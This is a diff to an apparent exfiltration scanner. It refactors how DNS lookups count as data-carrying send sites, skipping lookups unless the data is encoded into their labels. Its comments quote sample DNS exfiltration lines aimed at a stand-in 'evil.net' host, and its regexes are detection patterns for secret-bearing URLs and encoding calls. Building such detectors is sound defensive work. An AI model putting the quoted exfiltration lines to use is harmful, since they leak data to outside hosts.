@@ -11074,8 +11074,7 @@ function namesSecret(s) {
             return true;
     return false;
 }
-/** A lookup call (a DNS send site), and code that encodes data into what labels can carry. */
-const DNS_LOOKUP = /\b(?:gethostbyname|getaddrinfo)|\b(?:dns|resolver)\.(?:resolve|lookup|query)/;
+/** Code that encodes data into what DNS labels can carry ([a-z0-9-]). */
 const ENCODES = /\b(?:b(?:16|32|64|85)encode|hexlify|urlsafe_b64encode|btoa)\s*\(|\.hex\(\)|toString\(\s*["'](?:hex|base64)|["'](?:hex|base64|base32)["']\s*\)/;
 /** A URL that carries a secret as its password: `https://user:${TOKEN}@host`, `:${{ secrets.T }}@`. */
 const URL_SECRET = /:\/\/[\w.%-]*:(?:\$\{\{[^}\n]*\}\}|\$\{?[A-Za-z_]\w*\}?)@/;
@@ -11182,10 +11181,12 @@ const SEND_SITES = [
         call: false,
     },
     // A lookup whose leftmost labels are built from data (f"{chunk}.{n}.x.evil.net"): DNS carries them out.
+    // A sharded host name ("{region}.api.vendor.com") carries nothing, hence `encodedOnly`.
     {
         langs: ["python", "js"],
         re: /\b(?:socket\.(?:gethostbyname(?:_ex)?|getaddrinfo)|dns\.(?:resolve\w*|lookup)|(?:dns\.)?resolver\.(?:resolve|query))\s*\(/g,
         call: true,
+        encodedOnly: true,
         needs: /(?:\}|\+\s*["'`])\.?(?:[\w-]+\.)+(?!(?:local|internal|lan|localhost|corp|home|arpa)(?![\w.-]))[a-z]{2,}(?![\w.-])/,
     },
     // A lookup or a transfer run through a process call: os.popen(f"dig {encoded}.x.evil.net").
@@ -11375,7 +11376,13 @@ function* sendStatements(file) {
                 if (site.needs && !site.needs.test(stmt))
                     continue;
                 const at = site.call ? openedAt(r.text, m.index) : m.index;
-                yield { r, m, stmt: site.call && r.lang === "js" ? stmt + bodyWritten(r.text, m, stmt) : stmt, at };
+                yield {
+                    site,
+                    r,
+                    m,
+                    stmt: site.call && r.lang === "js" ? stmt + bodyWritten(r.text, m, stmt) : stmt,
+                    at,
+                };
             }
         }
     }
@@ -11426,7 +11433,7 @@ const E1_SEND = {
             return { ...sc, text: py ? sc.text : r.text };
         };
         let hidden;
-        for (const { r, m, stmt, at } of sendStatements(file)) {
+        for (const { site, r, m, stmt, at } of sendStatements(file)) {
             const scope = scopeOf(r, m.index);
             let host = resolveHost(`${m[0]} ${stmt}`, scope.text);
             // A destination kept encoded ("_SINK = bytes([104, 116, ...])") is decoded where it is defined.
@@ -11440,9 +11447,7 @@ const E1_SEND = {
             const sens = Math.max(sensitivity(stmt, false), taintOf(stmt, scope.noEnv));
             if (sens < 1 && Math.max(sensitivity(stmt), taintOf(stmt, scope.all)) === 2)
                 continue;
-            // A lookup carries data only in labels it was encoded into (DNS takes [a-z0-9-]); a sharded
-            // host name ("{region}.api.vendor.com") is not a channel.
-            if (DNS_LOOKUP.test(m[0]) && sens < 1 && !ENCODES.test(r.text))
+            if (site.encodedOnly && sens < 1 && !ENCODES.test(r.text))
                 continue;
             // A document's example call to a documentation host (RFC 2606) sends nothing anywhere. A program
             // the skill ships, or a secret in the example, still shows what it is written to do.
